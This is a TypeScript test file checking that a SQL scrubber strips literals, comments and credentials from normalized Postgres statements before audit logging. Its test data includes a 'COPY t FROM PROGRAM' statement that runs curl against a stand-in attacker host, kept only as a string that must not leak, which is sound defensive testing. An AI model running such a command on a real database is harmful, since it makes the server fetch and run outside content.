import { before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { normalizeSync } from 'libpg-query';
import { analyseSql, loadSqlParser } from './parser.ts';
import { scrubByScan, scrubLiterals, UNSCRUBBABLE_TEXT } from './scrub-literals.ts';

/** Statements normalize leaves constants in, and the literals that must not survive. */
const LEAKY_STATEMENTS: readonly (readonly [string, readonly string[]])[] = [
  ["CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'db.internal', password 'pw-secret-1')", ['db.internal', 'pw-secret-1']],
  ["COPY t FROM PROGRAM 'curl https://evil.example/x'", ['curl', 'evil.example']],
  ["ALTER SYSTEM SET work_mem = '64MB'", ['64MB']],
  ["COMMENT ON TABLE t IS 'sécret-comment'", ['sécret-comment']],
  ["PREPARE p AS SELECT 'lit-prepared', 4242, B'10101', X'ff0f', 1.5e3, E'x\\'y', $$dollar-body$$, U&'d\\0061t'", ['lit-prepared', '4242', '10101', 'ff0f', '1.5e3', "x\\'y", 'dollar-body', 'd\\0061t']],
  ["EXECUTE p('lit-executed', 77)", ['lit-executed', '77']],
  ["CREATE USER MAPPING FOR CURRENT_USER SERVER s OPTIONS (user 'u', password 'pw-secret-2')", ['pw-secret-2']],
];

describe('scrubLiterals', () => {
  before(async () => {
    await loadSqlParser();
  });

  for (const [sql, literals] of LEAKY_STATEMENTS) {
    it(`leaves no literal in: ${sql.slice(0, 40)}…`, () => {
      const scrubbed = scrubLiterals(normalizeSync(sql));
      for (const literal of literals) assert.ok(!scrubbed.includes(literal), `${literal} in ${scrubbed}`);
      assert.match(scrubbed, /\$1/);
    });
  }

  it('is applied to the audit text of every analysed statement', () => {
    for (const [sql, literals] of LEAKY_STATEMENTS) {
      const analysis = analyseSql(sql);
      assert.ok(analysis.ok);
      for (const literal of literals) assert.ok(!analysis.normalized.includes(literal), `${literal} in ${analysis.normalized}`);
    }
  });

  it('numbers after the parameters already present and keeps the rest of the text', () => {
    assert.equal(scrubLiterals("SELECT $2 || $1 || 'x' || 5"), 'SELECT $2 || $1 || $3 || $4');
    assert.equal(scrubLiterals('DELETE FROM invoices'), 'DELETE FROM invoices');
    assert.equal(scrubLiterals("SELECT 'é', \"naïve\""), 'SELECT $1, "naïve"');
    assert.equal(scrubLiterals(''), '');
  });

  it('drops comments, which may quote anything', () => {
    const scrubbed = scrubLiterals("SELECT 1 /* password 'hunter2' */ -- token abc");
    assert.ok(!/hunter2|abc/.test(scrubbed), scrubbed);
    assert.match(scrubbed, /^SELECT \$1\s/);
  });

  it('withholds text the lexer cannot read rather than leak it', () => {
    assert.equal(scrubLiterals("SELECT 'unterminated"), UNSCRUBBABLE_TEXT);
  });
});

describe('scrubLiterals fast path', () => {
  before(async () => {
    await loadSqlParser();
  });

  // Statements (raw and normalized) covering every token kind: the fast path must return exactly
  // what the scan returns, whichever branch it takes.
  const samples = [
    'SELECT abalance FROM pgbench_accounts WHERE aid = 48211',
    'UPDATE pgbench_accounts SET abalance = abalance + $1 WHERE aid = $2',
    'SELECT t1.c2 FROM "Table 9" t1 JOIN x_2 ON t1.id = x_2.id',
    "SELECT 'a', 1, .5, 1e3, B'1', X'f', E'\\n', U&'d\\0061', $$x$$, $tag$y$tag$",
    'SELECT a -- note 1\nFROM t /* block 2 */',
    'SELECT $1::int, $12 FROM t WHERE c = $3',
    'DELETE FROM scratch.invoices WHERE id = $1',
    'SELECT "col1" FROM t WHERE x IS NULL AND y = TRUE',
    'SELECT café FROM t',
    // One constant kind at a time, so a gap in the fast-path test cannot hide behind another token.
    'SELECT $$only dollar$$', 'SELECT $q$tagged$q$', 'SELECT .5', 'SELECT 1e3', 'SELECT 7', 'SELECT a FROM t -- c',
    'SELECT a /* c */ FROM t', "SELECT B'1'", "SELECT X'ff'", "SELECT E'x'", "SELECT U&'x'", 'SELECT t.c FROM t WHERE c>3',
  ];
  for (const sql of samples) {
    it(`agrees with the scan on: ${sql.slice(0, 50)} (raw and normalized)`, () => {
      for (const text of [sql, normalizeSync(sql)]) assert.equal(scrubLiterals(text), scrubByScan(text), text);
    });
  }

  it('takes the fast path for a normalized pgbench statement (nothing to scrub)', () => {
    const text = normalizeSync('SELECT abalance FROM pgbench_accounts WHERE aid = 48211');
    assert.equal(scrubLiterals(text), text);
  });
});
